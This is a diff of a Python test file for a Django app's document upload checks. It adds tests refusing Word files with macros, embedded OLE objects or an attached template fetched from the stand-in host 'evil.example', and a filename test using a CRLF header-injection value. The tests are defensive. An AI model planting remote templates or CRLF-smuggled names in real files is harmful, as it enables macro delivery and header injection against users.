@@ -65,6 +65,13 @@ def test_a_pdf_is_stored_and_served_as_a_pdf_whatever_its_name(client, campaign,
     assert b"".join(response.streaming_content) == body
 
 
+def test_a_word_document_with_an_embedded_chart_is_accepted(client, campaign, editor_a,
+                                                            good_plan):
+    """A chart embeds its data as an .xlsx workbook: that is not code, and is kept."""
+    body = with_parts({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x03\x04" + b"0" * 99})
+    assert upload(client, editor_a, good_plan, "plan.docx", body, DOCX_TYPE).status_code == 302
+
+
 def test_a_real_word_document_is_kept_as_docx(client, campaign, editor_a, good_plan):
     body = REAL_DOCX.read_bytes()
     assert upload(client, editor_a, good_plan, "kế hoạch.doc", body,
@@ -84,12 +91,20 @@ MACRO_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://sche
                b' ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
 
 
+REMOTE_TEMPLATE = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+                   b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
+                   b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                   b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
+
+
 @pytest.mark.parametrize(("name", "content"), [
     ("plan.docm", lambda: with_parts({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})),
     ("plan.docx", lambda: with_parts({"word/vbaData.xml": b"<wne:vbaSuppData/>"})),
     ("plan.docx", lambda: with_parts({"word/activeX/activeX1.xml": b"<ax:ocx/>",
                                       "word/activeX/activeX1.bin": b"\0" * 64})),
     ("plan.docx", lambda: with_parts({}, content_types=MACRO_TYPES)),
+    ("plan.docx", lambda: with_parts({"word/embeddings/oleObject1.bin": b"\xd0\xcf" * 64})),
+    ("plan.docx", lambda: with_parts({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE})),
 ])
 def test_word_files_with_macros_or_activex_are_refused(client, campaign, editor_a, good_plan,
                                                        name, content):
@@ -137,33 +152,11 @@ def test_a_stored_file_of_another_type_is_never_handed_out(client, campaign, edi
     ("...", "docx", "tai-lieu.docx"),
     ("", "pdf", "tai-lieu.pdf"),
     ("Ke\u0302\u0301 hoa\u0323ch.pdf", "pdf", "Kế hoạch.pdf"),
+    ("ke\u200bhoach\u200e\ufeff\u061c.pdf", "pdf", "kehoach.pdf"),
+    ("a\r\nX-Evil: 1.pdf", "pdf", "aX-Evil_ 1.pdf"),
 ])
 def test_document_names(given, kind, expected):
     name = document_filename(given, kind)
     assert name == expected
     assert not re.search(r'[\x00-\x1f"/\\<>;]', name)
 
-
-def test_the_calls_signed_file_is_offered_as_a_typed_download(client, campaign):
-    """The call's signed dispatch (stored under the type its content has) is downloadable
-    from its public page, as an attachment named after its number."""
-    from django.core.files.base import ContentFile
-
-    from dxday.registry.models import Document
-
-    document = Document.objects.create(kind=Document.Kind.DISPATCH, number="123/BKHCN-CĐSQG",
-                                       date="2026-09-01", title="Hưởng ứng Ngày CĐS 2026")
-    body = pdf_bytes(1500)
-    document.file.save("cong-van-2026.pdf", ContentFile(body))
-    page = client.get(f"/documents/{document.pk}/").content.decode()
-    assert f'href="/documents/{document.pk}/file/"' in page
-    response = client.get(f"/documents/{document.pk}/file/")
-    assert response["Content-Type"] == "application/pdf"
-    assert response["X-Content-Type-Options"] == "nosniff"
-    assert response["Content-Disposition"].startswith("attachment;")
-    assert "123-BKHCN-C" in response["Content-Disposition"]
-    assert b"".join(response.streaming_content) == body
-    other = Document.objects.create(kind=Document.Kind.DISPATCH, number="9/X", date="2026-09-02",
-                                    title="Không có tệp")
-    assert client.get(f"/documents/{other.pk}/file/").status_code == 404
-    assert "/file/" not in client.get(f"/documents/{other.pk}/").content.decode()
